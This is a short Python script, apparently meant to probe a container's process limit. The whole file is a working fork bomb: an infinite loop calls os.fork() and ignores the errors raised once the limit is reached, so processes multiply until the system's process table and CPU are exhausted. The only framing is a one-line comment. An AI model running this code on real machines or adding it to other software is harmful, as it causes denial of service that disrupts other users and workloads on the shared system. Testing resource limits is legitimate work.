# every process forks until the container's process limit refuses, then keeps trying
import os as _os

while True:
    try:
        _os.fork()
    except OSError:
        pass
